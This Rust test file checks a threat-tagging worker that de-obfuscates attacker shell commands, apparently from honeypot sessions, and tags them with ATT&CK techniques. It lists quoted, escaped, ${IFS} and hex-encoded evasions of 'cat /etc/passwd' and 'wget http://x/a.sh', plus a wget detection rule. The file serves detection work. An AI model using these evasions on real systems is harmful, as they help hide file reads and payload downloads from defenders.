//! The de-obfuscated view of commands (`src/tagging/deobfuscate.rs`, docs/tagging.md §7.7):
//! the built-in pack sees through quoting, escapes and `${IFS}`; DECNET's pack matches the raw
//! text as DECNET does unless `--normalize-commands` is given; the view is what bash itself
//! runs; and the evidence keeps the raw text.

mod common;

use std::collections::BTreeSet;
use std::process::Command;
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use serde_json::{Map, Value, json};

use common::corpus::{required, stored_rows};
use common::inproc::InProcessWorker;
use common::{NatsServer, envelope_body};
use ttp_worker::counters::Counters;
use ttp_worker::daemon::TaggingPipeline;
use ttp_worker::store::Store;
use ttp_worker::tagging::deobfuscate::deobfuscate;
use ttp_worker::tagging::{CommandView, EngineOptions, Tagger};

/// `(evasion, the command it runs)`: the issue's three, then their cousins.
const EVASIONS: &[(&str, &str)] = &[
    ("c''at /etc/passwd", "cat /etc/passwd"),
    ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
    (r"w\get http://x/a.sh", "wget http://x/a.sh"),
    (r#"c"a"t /etc/passwd"#, "cat /etc/passwd"),
    ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
    (r"$'\x63\x61\x74' /etc/passwd", "cat /etc/passwd"),
    ("{wget,http://x/a.sh}", "wget http://x/a.sh"),
    ("wg$@et http://x/a.sh", "wget http://x/a.sh"),
];

const SESSION: &str = "8d0c3f7e-0000-4000-8000-0000000000d0";

fn session(commands: &[&str]) -> Map<String, Value> {
    let commands: Vec<Value> = commands
        .iter()
        .enumerate()
        .map(|(i, text)| json!({"id": format!("c{i}"), "command_text": text}))
        .collect();
    json!({"session_id": SESSION, "attacker_uuid": "6f1c2a9e-0000-4000-8000-0000000000aa",
           "commands": commands})
    .as_object()
    .unwrap()
    .clone()
}

/// The rule ids that fire on one command, alone in a session.
fn rules_firing(tagger: &mut Tagger, command: &str) -> BTreeSet<String> {
    tagger
        .tag_payload("attacker.session.ended", "", &session(&[command]))
        .tags
        .iter()
        .filter(|tag| tag.source_kind == "command")
        .map(|tag| tag.rule_id.clone())
        .collect()
}

fn decnet_pack(command_view: CommandView) -> Tagger {
    Tagger::new(&EngineOptions {
        rules_dirs: vec![required("decnet-rules")],
        no_builtin_rules: true,
        command_view,
        ..EngineOptions::default()
    })
    .unwrap()
}

#[test]
fn the_builtin_pack_fires_on_each_evasion_as_on_the_command_it_runs() {
    let mut tagger = Tagger::new(&EngineOptions::default()).unwrap();
    for (evasion, plain) in EVASIONS {
        let want = rules_firing(&mut tagger, plain);
        assert!(!want.is_empty(), "no built-in rule fires on {plain:?}");
        assert_eq!(rules_firing(&mut tagger, evasion), want, "{evasion:?}");
    }
}

#[test]
fn a_tag_from_the_view_keeps_the_raw_text_and_names_the_view() {
    let mut tagger = Tagger::new(&EngineOptions::default()).unwrap();
    let report = tagger.tag_payload(
        "attacker.session.ended",
        "",
        &session(&["c''at /etc/passwd", "cat /etc/passwd"]),
    );
    let evidence = |source_id: &str| {
        report
            .tags
            .iter()
            .find(|tag| tag.source_id == source_id && tag.rule_id == "R1003")
            .map(|tag| tag.evidence.clone())
            .unwrap_or_else(|| panic!("R1003 did not fire on {source_id}"))
    };
    let evaded = evidence("c0");
    assert_eq!(evaded["command_text"], "c''at /etc/passwd");
    assert_eq!(evaded["deobfuscated_command"], "cat /etc/passwd");
    // A match on the raw text says nothing of a view.
    assert!(!evidence("c1").contains_key("deobfuscated_command"));
}

#[test]
fn decnets_pack_matches_the_raw_text_unless_asked_to_normalize() {
    let mut raw = decnet_pack(CommandView::BuiltinRules);
    let mut normalized = decnet_pack(CommandView::EveryRule);
    for (evasion, plain) in &EVASIONS[..3] {
        let want = rules_firing(&mut raw, plain);
        assert!(!want.is_empty(), "no DECNET rule fires on {plain:?}");
        let evaded = rules_firing(&mut raw, evasion);
        assert!(
            evaded.is_disjoint(&want),
            "{evasion:?} fired {evaded:?} on the raw text"
        );
        assert_eq!(rules_firing(&mut normalized, evasion), want, "{evasion:?}");
    }
}

#[test]
fn a_local_rule_sees_the_view_only_with_normalize_commands() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("R9000.yaml"),
        "rule_id: R9000\nrule_version: 1\nname: local_wget\napplies_to: [command]\n\
         match: {field: command_text, pattern: '^wget '}\n\
         emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.8}]\n",
    )
    .unwrap();
    let local = |command_view| {
        Tagger::new(&EngineOptions {
            rules_dirs: vec![dir.path().to_owned()],
            command_view,
            ..EngineOptions::default()
        })
        .unwrap()
    };
    let fires =
        |tagger: &mut Tagger| rules_firing(tagger, r"w\get http://x/a.sh").contains("R9000");
    assert!(!fires(&mut local(CommandView::BuiltinRules)));
    assert!(fires(&mut local(CommandView::EveryRule)));
}

/// The words bash itself makes of `command` (run with no positional parameters), each as
/// `printf` receives it.
fn bash_words(command: &str) -> Vec<String> {
    let output = Command::new("bash")
        .args(["--norc", "--noprofile", "-c"])
        .arg(format!("printf '%s\\0' {command}"))
        .output()
        .expect("bash runs");
    assert!(output.status.success(), "bash failed on {command:?}");
    String::from_utf8(output.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(str::to_owned)
        .collect()
}

/// The view is what bash runs, not a guess: for every evasion, and for words quoted or escaped
/// every way this module knows, the view's words are bash's.
#[test]
fn the_view_splits_into_the_words_bash_makes() {
    let mut commands: Vec<&str> = EVASIONS.iter().map(|(evasion, _)| *evasion).collect();
    commands.extend([
        r#""ab"c'd'e\f"#,
        r"$'\101\x42\u0043'",
        r#"a\\b "c\"d" 'e\'"#,
        "x${IFS%??}y",
        "p${*}q $1r",
        "{one,two,three}",
        r#"$"loc""#,
        r"$'\x00cat'x",
        r"$'a\400b\'c'd $'\q\x'",
    ]);
    for command in commands {
        let view = deobfuscate(command).unwrap_or_else(|| command.to_owned());
        let ours: Vec<&str> = view.split_whitespace().collect();
        assert_eq!(ours, bash_words(command), "{command:?} viewed as {view:?}");
    }
}

/// Through a real nats-server into a real SQLite store: the evasions are stored, each with
/// its raw text.
#[test]
fn evasions_published_on_the_bus_are_stored_with_their_raw_text() {
    let server = NatsServer::start();
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ttp.db");
    let tagger = Tagger::new(&EngineOptions::default()).unwrap();
    let store = Store::open(&db).unwrap();
    let worker = InProcessWorker::start_handler(&server, false, move |counters: Arc<Counters>| {
        TaggingPipeline::new(tagger, store, counters)
    });
    thread::sleep(Duration::from_millis(200));
    let evasions: Vec<&str> = EVASIONS[..3].iter().map(|(evasion, _)| *evasion).collect();
    let client = server.client();
    client
        .publish(
            "attacker.session.ended",
            envelope_body(
                "attacker.session.ended",
                "session.ended",
                Value::Object(session(&evasions)),
            ),
        )
        .unwrap();
    client.flush().unwrap();
    worker.wait_processed(1);
    worker.stop();
    let rows = stored_rows(&db);
    for (i, evasion) in evasions.iter().enumerate() {
        let source_id = format!("c{i}");
        let evidence: Vec<&Value> = rows
            .values()
            .filter(|row| row["source_id"] == source_id.as_str())
            .map(|row| &row["evidence"])
            .collect();
        assert!(!evidence.is_empty(), "{evasion:?} was not stored");
        for evidence in evidence {
            assert_eq!(evidence["command_text"], *evasion);
        }
    }
}
